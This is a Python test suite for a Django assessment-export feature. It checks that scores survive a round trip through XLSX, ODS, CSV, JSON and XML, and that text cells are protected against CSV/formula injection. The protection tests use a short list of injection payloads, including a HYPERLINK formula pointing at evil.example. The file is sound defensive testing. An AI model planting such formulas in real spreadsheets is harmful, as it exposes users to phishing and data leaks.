"""Data exports (XLSX, ODS, CSV, JSON, XML) round-trip the numbers of the record."""

import csv
import io
import json
import xml.etree.ElementTree as ET
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from odf import opendocument, table
from odf.namespaces import OFFICENS

from servplan.assessments.domain import score_cell
from servplan.assessments.models import CellScore
from servplan.assessments.sheet import build_sheet, sheet_queryset, sheet_to_dict
from servplan.documents import data, forms
from servplan.documents.export import export_assessment
from tests import factories


def _load(assessment):
    return sheet_queryset().get(pk=assessment.pk)


def _expected(assessment) -> list[tuple[str, str, float | None]]:
    """(dimension, item or 小計/總分, score) in export order, from the record itself."""
    sheet = build_sheet(_load(assessment))
    out = []
    for d in sheet.dimensions:
        out += [(d.name, c.cell.item.name, _f(c.score)) for c in d.cells]
        out.append((d.name, data.SUBTOTAL, _f(d.score)))
    out.append((data.TOTAL, "", _f(sheet.score)))
    return out


def _f(value: Decimal | None) -> float | None:
    return None if value is None else float(value)


def _read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def _from_rows(rows) -> list[tuple[str, str, float | None]]:
    header = list(rows[0])
    d, i, s = header.index("執行構面"), header.index("評核項目"), header.index("自評")
    return [(r[d], r[i] or "", None if r[s] in ("", None) else float(r[s])) for r in rows[1:]]


def test_csv_round_trips_scores_with_bom(taitung):
    content = export_assessment(_load(taitung), fmt="csv").content
    rows = _read_csv(content)
    assert tuple(rows[0]) == data.HEADER
    assert _from_rows(rows) == _expected(taitung)
    assert rows[-1][5] == "939"


def test_xlsx_round_trips_scores_as_numbers_and_sizes_wrapped_rows(taitung):
    content = export_assessment(_load(taitung), fmt="xlsx").content
    ws = openpyxl.load_workbook(io.BytesIO(content)).active
    rows = [list(r) for r in ws.iter_rows(min_row=2, values_only=True)]
    assert _from_rows(rows) == _expected(taitung)
    assert isinstance(rows[1][5], int)
    assert ws["A1"].value.startswith("台東區營業處 114 年度 1 月至 6 月")
    narrative_rows = [r for r in range(3, ws.max_row + 1) if ws.cell(r, 7).value]
    heights = [ws.row_dimensions[r].height for r in narrative_rows]
    assert all(h and h > 30 for h in heights)  # several wrapped lines, not the default one
    assert ws.cell(3, 7).alignment.wrap_text


def test_ods_round_trips_scores_as_floats(taitung):
    content = export_assessment(_load(taitung), fmt="ods").content
    doc = opendocument.load(io.BytesIO(content))
    [sheet] = doc.spreadsheet.getElementsByType(table.Table)
    rows = []
    for tr in sheet.getElementsByType(table.TableRow)[1:]:
        row = []
        for tc in tr.getElementsByType(table.TableCell):
            if tc.getAttrNS(OFFICENS, "value-type") == "float":
                row.append(float(tc.getAttrNS(OFFICENS, "value")))
            else:
                row.append("\n".join(str(p) for p in tc.childNodes))
        rows.append(row)
    assert _from_rows(rows) == _expected(taitung)
    assert len(sheet.getElementsByType(table.TableHeaderRows)) == 1


def test_json_is_the_api_shape_without_the_status(taitung):
    content = export_assessment(_load(taitung), fmt="json").content
    shape = json.loads(json.dumps(sheet_to_dict(build_sheet(_load(taitung)))))
    del shape["status"]  # it moves on after submission (HQ's review); the content does not
    assert json.loads(content) == shape


def test_xml_round_trips_scores(taitung):
    root = ET.fromstring(export_assessment(_load(taitung), fmt="xml").content)
    assert root.get("office") == "台東區營業處" and root.find("total").get("score") == "939"
    got = []
    for d in root.findall("dimension"):
        got += [(d.get("name"), i.get("name"), float(i.get("score"))) for i in d.findall("item")]
        got.append((d.get("name"), data.SUBTOTAL, float(d.get("score"))))
    got.append((data.TOTAL, "", float(root.find("total").get("score"))))
    assert got == _expected(taitung)
    assert "落實本公司「企業用戶專人服務實施要點」" in root.find("dimension/item/narrative").text


@pytest.mark.django_db
@settings(
    max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(scores=st.lists(st.integers(min_value=0, max_value=20), min_size=4, max_size=4))
def test_half_points_and_blanks_round_trip_in_every_table_format(scores):
    """Half points stay half points, blanks stay blank (20 stands for 'not scored')."""
    assessment = factories.assessment()
    cells = list(assessment.cells.order_by("cell__dimension__position", "cell__item__position"))
    for cell, halves in zip(cells, scores, strict=True):
        score_cell(cell_score=cell, score=None if halves == 20 else Decimal(halves) / 2)
    expected = _expected(assessment)
    loaded = _load(assessment)
    assert _from_rows(_read_csv(export_assessment(loaded, fmt="csv").content)) == expected
    ws = openpyxl.load_workbook(io.BytesIO(export_assessment(loaded, fmt="xlsx").content)).active
    assert _from_rows([list(r) for r in ws.iter_rows(min_row=2, values_only=True)]) == expected


def test_row_heights_follow_the_text():
    assert data.wrapped_lines("短", 10) == 1
    assert data.wrapped_lines("字" * 10, 10) == 2  # CJK counts double
    assert data.wrapped_lines("a\nb\nc", 10) == 3


# OWASP's CSV injection: what a spreadsheet takes for a formula (after normalize, a tab or CR
# in front is gone from narratives, so they are checked on the table itself below).
FORMULAS = ['=HYPERLINK("http://evil.example/?x","點我")', "+1", "-2+3", "@SUM(A1)"]


def _narrated(narratives: list[str]):
    assessment = factories.assessment()
    cells = list(assessment.cells.order_by("cell__dimension__position", "cell__item__position"))
    for cell, text in zip(cells, narratives, strict=False):
        score_cell(cell_score=cell, narrative=text)
    return _load(assessment)


def test_narratives_that_look_like_formulas_stay_text_in_xlsx_and_csv(db):
    loaded = _narrated(FORMULAS)
    ws = openpyxl.load_workbook(io.BytesIO(export_assessment(loaded, fmt="xlsx").content)).active
    column = data.HEADER.index("評分重點（執行情形）") + 1
    cells = [ws.cell(r, column) for r in range(3, 3 + len(FORMULAS) + 1)]
    got = {c.value: c for c in cells if c.value}
    assert set(got) == set(FORMULAS)
    for cell in got.values():
        assert cell.data_type == "s" and cell.quotePrefix, cell.value
    rows = _read_csv(export_assessment(loaded, fmt="csv").content)
    texts = [r[data.HEADER.index("評分重點（執行情形）")] for r in rows[1:]]
    assert {t for t in texts if t} == {"'" + f for f in FORMULAS}


@pytest.mark.parametrize("text", [*FORMULAS, "\t=1", "\r=1", "-"])
def test_every_text_cell_that_could_be_a_formula_is_neutralised(text):
    table = [list(data.HEADER), ["區", "期", text, "項", 10, 5, text, "", "", "", "", text]]
    ws = openpyxl.load_workbook(io.BytesIO(data.to_xlsx(table, text))).active
    written = [c for row in ws.iter_rows() for c in row if c.value == text]
    assert len(written) == 4  # the title and three text cells
    assert all(c.data_type == "s" and c.quotePrefix for c in written)
    assert ws.cell(3, 5).data_type == "n" and not ws.cell(3, 5).quotePrefix
    rows = _read_csv(data.to_csv(table))
    assert [rows[1][i] for i in (2, 6, 11)] == ["'" + text] * 3
    assert rows[1][4] == "10"


def test_a_bullet_stays_a_bullet_on_the_page_and_in_the_forms(db, client):
    loaded = _narrated(["- 第一點\n- 第二點"])
    cell = CellScore.objects.get(assessment=loaded, narrative__startswith="- ")
    assert cell.narrative == "- 第一點\n- 第二點"
    url = reverse("assessment-detail", args=[loaded.pk])
    client.force_login(factories.user(office=loaded.office))
    assert ">- 第一點\n- 第二點</textarea>" in client.get(url).text  # the clerk's form
    client.force_login(factories.user(office=loaded.office, role="director"))
    assert "<li>第一點</li><li>第二點</li>" in client.get(url).text
    document = forms.assessment_document(_load(loaded), list(forms.ASSESSMENT_FORMS))
    assert '"text": "第一點", "bullet": true' in json.dumps(
        document, ensure_ascii=False, default=str
    )
    odt = export_assessment(_load(loaded), fmt="odt", form="score-sheet").content
    content = zipfile.ZipFile(io.BytesIO(odt)).read("content.xml").decode()
    assert "• 第一點" in content and "'- " not in content
    assert "'- 第一點" in export_assessment(_load(loaded), fmt="csv").content.decode("utf-8-sig")
